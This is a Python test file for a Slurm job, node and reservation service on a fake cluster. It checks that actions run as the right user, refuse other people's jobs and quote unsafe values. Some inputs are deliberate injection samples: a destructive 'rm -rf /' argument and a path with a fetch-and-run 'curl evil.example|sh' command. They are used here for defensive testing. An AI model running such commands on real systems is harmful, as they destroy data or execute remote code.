"""The actions on jobs, nodes and reservations, on a fake Slurm: who they run as, what they show, what they refuse."""

import datetime
from collections.abc import AsyncIterator
from typing import Any

import msgspec
import pytest
from gpuaas_app_slurm import job_actions
from gpuaas_app_slurm.workload import queue, reservations
from gpuaas_app_slurm_conformance.fake_slurm import AWAY, Cluster, FakeJob, deployed_cluster
from gpuaas_contract.posix import PosixPerson
from gpuaas_contract.protocol.result import NOTE_LENGTH_MAX
from gpuaas_contract.runtime import RESULT_BYTES_MAX
from gpuaas_sdk.machine import Ran
from test_slurm_usage import NOW, parse, row

SCRIPT = "#!/bin/bash\nhostname; echo $(id -un) `date` \"'\n"


@pytest.fixture
async def cluster() -> AsyncIterator[Cluster]:
    async with deployed_cluster() as deployed:
        people = [("ada", "active"), ("bob", "active"), ("eve", "left")]
        deployed.platform.records.people += [
            PosixPerson(
                user_id=f"user_{login}",
                name=login,
                login=login,
                uid=20000 + number,
                gid=20000 + number,
                state="left" if state == "left" else "active",
                is_admin=False,
                public_keys=[],
            )
            for number, (login, state) in enumerate(people)
        ]
        yield deployed


def rows(ended: Any, *columns: str) -> list[Any]:
    assert ended.status == "succeeded", ended.error
    values = [tuple(row[column] for column in columns) for row in ended.result["rows"]]
    return [value[0] for value in values] if len(columns) == 1 else values


def fits(ended: Any) -> bool:
    """Return whether the platform accepts the result."""
    return len(msgspec.json.encode(ended.result)) <= RESULT_BYTES_MAX and len(ended.result["note"]) <= NOTE_LENGTH_MAX


def error(ended: Any) -> str:
    assert ended.status == "failed", ended.result
    return str(ended.error.message)


def ran_as(cluster: Cluster, program: str, host: str = "gpu-1") -> list[str | None]:
    """Return the user of each command that has this text."""
    commands = cluster.machines.host(host).commands
    return [command.as_user for command in commands if any(program in word for word in command.argv)]


async def test_a_job_is_submitted_as_the_caller_and_its_script_is_never_part_of_a_command(cluster: Cluster) -> None:
    ended = await cluster.act("queue.submit", by="user_ada", script=SCRIPT, name="a b", nodes=2, gpus_per_node=1)
    assert rows(ended, "job_id", "state", "login") == [("101", "PENDING", "ada")]
    [command] = [item for item in cluster.machines.host("gpu-1").commands if queue.SUBMIT in item.argv]
    assert (command.as_user, command.input) == ("ada", SCRIPT.encode())
    mark = f"--comment=gpuaas:{ended.operation_id}"
    assert command.argv[4:] == ("--job-name=a b", "--nodes=2", "--gpus-per-node=1", mark)


def test_every_option_of_a_job_is_one_argument_with_any_value() -> None:
    request = queue.Request(
        script=SCRIPT, output="; rm -rf / $(id)", memory_mb=16, array="1-3%2", time="1-00:00:00", hold=True
    )
    given = ("--time=1-00:00:00", "--mem=16M", "--array=1-3%2", "--output=; rm -rf / $(id)", "--comment=m", "--hold")
    assert queue.options(request, "m") == given


@pytest.mark.parametrize("user", ["user_eve", "user_unknown", "test"])
async def test_who_has_no_login_in_the_project_cannot_submit_cancel_or_read_output(cluster: Cluster, user: str) -> None:
    for action, inputs in (
        ("queue.submit", {"script": SCRIPT}),
        ("queue.cancel", {"jobs": ["7"]}),
        ("job.logs", {"job": "7"}),
        ("queue.read", {"mine": True}),
    ):
        assert "you have no login on the machines" in error(await cluster.act(action, by=user, **inputs))
    assert cluster.slurm.queue.submitted == []


async def test_a_script_without_an_interpreter_and_a_job_that_slurm_refuses_are_explained(cluster: Cluster) -> None:
    ended = await cluster.act("queue.submit", by="user_ada", script="hostname")
    assert "does not start with #!" in error(ended)
    cluster.slurm.queue.refuses = "sbatch: error: Batch job submission failed: Invalid partition name specified"
    assert "Invalid partition name" in error(await cluster.act("queue.submit", by="user_ada", script=SCRIPT))


async def test_a_submission_that_is_repeated_finds_its_job_and_submits_no_second_one(
    cluster: Cluster, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first look at the job fails after it was submitted, so the kit runs the handler again."""
    answer, lost = cluster.slurm.answer, [True]

    def once_away(argv: tuple[str, ...]) -> Ran:
        if lost and argv[0] == "squeue" and any(word.startswith("--jobs=") for word in argv):
            lost.clear()
            return AWAY
        return answer(argv)

    monkeypatch.setattr(cluster.machines.host("gpu-1"), "_answer", once_away)
    ended = await cluster.act("queue.submit", by="user_ada", script=SCRIPT)
    assert rows(ended, "job_id") == ["101"]
    assert (lost, len(cluster.slurm.queue.submitted)) == ([], 1)


async def test_a_job_of_another_person_with_the_same_comment_is_not_taken_for_the_submitted_one(
    cluster: Cluster,
) -> None:
    guesses = [f"gpuaas:op_{number:04}" for number in range(20)]
    cluster.slurm.jobs = [FakeJob(7 + place, user="bob", comment=guess) for place, guess in enumerate(guesses)]
    ended = await cluster.act("queue.submit", by="user_ada", script=SCRIPT)
    assert f"gpuaas:{ended.operation_id}" in guesses
    assert rows(ended, "job_id", "login") == [("101", "ada")]


async def test_the_queue_is_shown_with_filters(cluster: Cluster) -> None:
    cluster.slurm.jobs = [
        FakeJob(7, user="ada", gpus=2, started_at=NOW),
        FakeJob(8, user="bob", node=""),
        FakeJob(9, user="ada", node="", partition="short"),
    ]
    assert rows(await cluster.act("queue.read"), "job_id", "state", "gpus") == [
        ("7", "RUNNING", 2),
        ("8", "PENDING", 0),
        ("9", "PENDING", 0),
    ]
    assert rows(await cluster.act("queue.read", state="running"), "job_id") == ["7"]
    assert rows(await cluster.act("queue.read", login="bob"), "job_id") == ["8"]
    assert rows(await cluster.act("queue.read", by="user_ada", mine=True, partition="short"), "job_id") == ["9"]


async def test_a_long_queue_is_cut_and_the_result_names_how_many_there_are(cluster: Cluster) -> None:
    cluster.slurm.jobs = [FakeJob(number) for number in range(1, 702)]
    ended = await cluster.act("queue.read")
    assert (len(rows(ended, "job_id")), "500 of 701. Filter" in ended.result["note"]) == (500, True)


async def test_people_cancel_their_own_jobs_as_themselves_and_no_others(cluster: Cluster) -> None:
    cluster.slurm.jobs = [FakeJob(7, user="ada"), FakeJob(8, user="bob"), FakeJob(9, user="ada")]
    refused = await cluster.act("queue.cancel", by="user_ada", jobs=["7", "8"])
    assert "8: jobs of other people" in error(refused)
    assert ran_as(cluster, "scancel") == []
    ended = await cluster.act("queue.cancel", by="user_ada", jobs=["7"])
    assert (rows(ended, "job_id"), ran_as(cluster, "scancel")) == ([], ["ada"])
    assert [job.job_id for job in cluster.slurm.jobs] == [8, 9]


async def test_a_job_that_is_not_in_the_queue_is_named_and_no_other_is_cancelled(cluster: Cluster) -> None:
    cluster.slurm.jobs = [FakeJob(7, user="ada")]
    refused = await cluster.act("queue.cancel", by="user_ada", jobs=["7", "12", "13_4"])
    assert "the queue has no job 12, 13_4; nothing was cancelled" in error(refused)
    assert [job.job_id for job in cluster.slurm.jobs] == [7]


async def test_who_operates_the_cluster_cancels_any_job(cluster: Cluster) -> None:
    cluster.slurm.jobs = [FakeJob(7, user="ada"), FakeJob(8, user="bob")]
    await cluster.act("queue.cancel_any", by="user_ada", jobs=["8"])
    assert ([job.job_id for job in cluster.slurm.jobs], ran_as(cluster, "scancel")) == ([7], [None])


async def test_output_is_read_on_the_machine_of_the_job_with_the_rights_of_its_owner(cluster: Cluster) -> None:
    path = "/home/people/ada/slurm-7.out"
    cluster.slurm.queue.rows = {"7": f"ada|RUNNING|gpu-2|{path}"}
    cluster.slurm.queue.outputs = {path: "one\ntwo\nthree\n"}
    ended = await cluster.act("job.logs", by="user_ada", job="7", lines=2)
    assert rows(ended, "number", "line") == [(1, "two"), (2, "three")]
    assert (ran_as(cluster, queue.LOGS, "gpu-2"), ran_as(cluster, queue.LOGS)) == (["ada"], [])


async def test_output_of_other_people_s_jobs_and_of_unknown_jobs_is_refused(cluster: Cluster) -> None:
    cluster.slurm.queue.rows = {"7": "bob|RUNNING|gpu-2|/home/people/bob/slurm-7.out"}
    assert "job 7 belongs to bob" in error(await cluster.act("job.logs", by="user_ada", job="7"))
    assert "you have no job 9" in error(await cluster.act("job.logs", by="user_ada", job="9"))


async def test_a_path_with_a_newline_adds_no_row_of_another_job_owner_or_machine(cluster: Cluster) -> None:
    path = "/x/out\nada|RUNNING|gpu-[1-3]|/home/people/ada/secret"
    cluster.slurm.queue.rows = {"7": f"bob|RUNNING|gpu-2|{path}", "8": f"ada|RUNNING|gpu-2|{path}"}
    cluster.slurm.queue.outputs = {path: "own\n"}
    assert "job 7 belongs to bob" in error(await cluster.act("job.logs", by="user_ada", job="7"))
    assert rows(await cluster.act("job.logs", by="user_ada", job="8"), "line") == ["own"]


@pytest.mark.parametrize(
    ("kept", "note"),
    [("ada|PENDING|None assigned|/x/out", "it has no output yet"), ("ada|RUNNING|gpu-2|/x/out", "has no file /x/out")],
)
async def test_a_job_without_output_is_no_error(cluster: Cluster, kept: str, note: str) -> None:
    cluster.slurm.queue.rows = {"7": kept}
    ended = await cluster.act("job.logs", by="user_ada", job="7")
    assert (rows(ended, "line"), note in ended.result["note"]) == ([], True)


@pytest.mark.parametrize("character", ["\x0b", "\x1c", "\x01", "\u2028", "x"])
async def test_output_with_any_characters_fits_into_a_result(cluster: Cluster, character: str) -> None:
    path = "/home/people/ada/" + "long/" * 800 + "out"
    cluster.slurm.queue.rows = {"7": f"ada|RUNNING|gpu-2|{path}"}
    cluster.slurm.queue.outputs = {path: 60_000 * character + "\nlast\n"}
    ended = await cluster.act("job.logs", by="user_ada", job="7", lines=10)
    assert rows(ended, "line")[-1] == "last"
    assert len(rows(ended, "line")) <= 10
    assert fits(ended)


async def test_an_empty_output_has_no_lines(cluster: Cluster) -> None:
    cluster.slurm.queue.rows, cluster.slurm.queue.outputs = {"7": "ada|RUNNING|gpu-2|/x/out"}, {"/x/out": ""}
    assert rows(await cluster.act("job.logs", by="user_ada", job="7"), "line") == []


async def test_a_path_that_is_a_command_is_quoted_in_what_others_are_advised_to_run(cluster: Cluster) -> None:
    path = "/x/$(curl evil.example|sh); out"
    cluster.slurm.queue.rows, cluster.slurm.queue.forbidden = {"7": f"ada|RUNNING|gpu-2|{path}"}, {path}
    ended = await cluster.act("job.logs", by="user_ada", job="7")
    assert "you may not read" in error(ended)
    assert ended.error.fix == f"ls -l '{path}'"


async def test_many_lines_that_grow_in_a_result_are_cut_at_the_front(cluster: Cluster) -> None:
    path = "/x/out"
    cluster.slurm.queue.rows = {"7": f"ada|RUNNING|gpu-2|{path}"}
    cluster.slurm.queue.outputs = {path: 1000 * (64 * "\x01" + "\n") + "last\n"}
    ended = await cluster.act("job.logs", by="user_ada", job="7", lines=1000)
    assert rows(ended, "line")[-1] == "last"
    assert fits(ended)
    assert "are left out" in ended.result["note"]


async def test_a_person_with_long_job_names_does_not_stop_the_list_of_the_queue(cluster: Cluster) -> None:
    cluster.slurm.jobs = [
        FakeJob(number, user="bob", name=1000 * "\N{GRINNING FACE}", node="") for number in range(1, 500)
    ]
    cluster.slurm.jobs += [FakeJob(500, user="ada")]
    ended = await cluster.act("queue.read")
    assert fits(ended)
    assert f"first {len(rows(ended, 'job_id'))} of 500." in ended.result["note"]
    assert rows(await cluster.act("queue.read", login="ada"), "job_id") == ["500"]


def test_sums_of_usage_count_the_jobs_that_started_in_the_period() -> None:
    jobs = parse(
        row(1, gpus=2, ago=500),
        row(2, gpus=1, ago=300, elapsed=20, end="Unknown"),
        row(3, "bob", ago=300),
        row(4, "bob", ago=5000),
        row(5, "bob", start="None"),
    ).jobs
    listed = job_actions.usage_rows(jobs, (NOW - 1000, NOW))
    assert [tuple(item.values()) for item in listed] == [
        ("ada", 2, 1, 30, 120, 40, 0.011),
        ("bob", 1, 0, 10, 40, 0, 0.0),
    ]
    assert [item["login"] for item in job_actions.usage_rows(jobs, (NOW - 1000, NOW), "bob")] == ["bob"]


async def test_usage_is_read_from_accounting_with_the_period_and_what_may_be_missing(cluster: Cluster) -> None:
    cluster.slurm.ended, cluster.slurm.unsent = [row(1, gpus=1)], "4"
    ended = await cluster.act("usage.read")
    assert rows(ended, "login", "jobs", "gpu_s") == [("ada", 1, 10)]
    assert "Some may be missing" in ended.result["note"]
    wrong = await cluster.act("usage.read", since="2030-01-02T00:00:00Z", until="2030-01-01T00:00:00Z")
    assert "is not after since" in error(wrong)


async def test_nodes_are_shown_and_a_label_keeps_the_worker_in_its_partitions(cluster: Cluster) -> None:
    assert rows(await cluster.act("node.read"), "node", "state", "labels") == [("gpu-2", "IDLE", None)]
    ended = await cluster.act("node.label", node="gpu-2", labels=["fast", "nvlink"])
    assert rows(ended, "node", "labels") == [("gpu-2", "fast,nvlink")]
    assert cluster.slurm.queue.features["gpu-2"] == ["worker", "fast", "nvlink"]
    assert rows(await cluster.act("node.label", node="gpu-2", labels=[]), "labels") == [None]


async def test_a_machine_that_is_no_worker_gets_no_label(cluster: Cluster) -> None:
    cluster.slurm.nodes["gpu-4"], cluster.slurm.queue.features["gpu-4"] = ["IDLE"], ["login"]
    for name in ("gpu-4", "gpu-9"):
        assert f"no worker {name}" in error(await cluster.act("node.label", node=name, labels=["fast"]))


async def test_a_reservation_is_created_listed_and_removed(cluster: Cluster) -> None:
    made = await cluster.act("reservation.create", name="course", minutes=60, users=["ada"], nodes=["gpu-2"])
    assert rows(made, "name", "nodes", "logins") == [("course", "gpu-2", "ada")]
    again = await cluster.act("reservation.create", name="course", minutes=60, users=["ada"], node_count=1)
    assert "Duplicate reservation name" in error(again)
    assert rows(await cluster.act("reservation.list"), "name") == ["course"]
    assert rows(await cluster.act("reservation.remove", name="course"), "name") == []
    assert "there is no reservation course" in error(await cluster.act("reservation.remove", name="course"))


@pytest.mark.parametrize("seconds", [253402300800, 16_725_225_600_000, 2**63 - 1])
async def test_a_time_after_the_last_year_of_the_calendar_hides_no_job_and_no_reservation(
    cluster: Cluster, seconds: int
) -> None:
    """Everyone can submit such a job: `sbatch --begin=now+500000weeks`."""
    cluster.slurm.jobs = [FakeJob(7), FakeJob(8, node="", started_at=seconds)]
    assert rows(await cluster.act("queue.read"), "job_id", "started_at") == [("7", None), ("8", None)]
    await cluster.act("reservation.create", name="far", minutes=60, users=["ada"], node_count=1)
    cluster.slurm.queue.reservations["far"] |= {"start_time": {"set": True, "number": seconds}}
    assert rows(await cluster.act("reservation.list"), "name", "starts_at") == [("far", None)]
    assert rows(await cluster.act("reservation.remove", name="far"), "name") == []


async def test_a_reservation_needs_nodes_or_their_number(cluster: Cluster) -> None:
    ended = await cluster.act("reservation.create", name="course", minutes=60, users=["ada"])
    assert "either nodes or node_count" in error(ended)


def test_the_start_of_a_reservation_does_not_depend_on_the_time_zone_of_the_machine() -> None:
    starts_at = "2030-01-01T01:00:00+01:00"
    wanted = reservations.NewReservation(
        "r", 5, ("ada",), datetime.datetime.fromisoformat(starts_at), node_count=2, ignore_jobs=True
    )
    words = ("reservationname=r", "starttime=uts1893456000", "duration=5", "users=ada", "nodecnt=2")
    assert reservations.settings(wanted) == (*words, "flags=ignore_jobs")


@pytest.mark.parametrize(
    ("action", "inputs", "field"),
    [
        ("usage.read", {"since": "2030-13-01T00:00:00Z"}, "since"),
        ("usage.read", {"until": "2030-01-01T25:00:00Z"}, "until"),
        ("reservation.create", {"starts_at": "2030-02-30T00:00:00Z"}, "starts_at"),
    ],
)
async def test_a_time_that_does_not_exist_is_refused_with_the_name_of_its_field(
    cluster: Cluster, action: str, inputs: dict[str, str], field: str
) -> None:
    rest: dict[str, Any] = {"name": "course", "minutes": 60, "users": ["ada"], "node_count": 1}
    more = {} if action == "usage.read" else rest
    ended = await cluster.act(action, **inputs, **more)
    assert (ended.status, ended.error.failure_class) == ("failed", "refused")
    assert ended.error.message == f"Input {field} of {action} cannot be used: Invalid RFC3339 encoded datetime."
    assert "gpuaas action list" in ended.error.fix
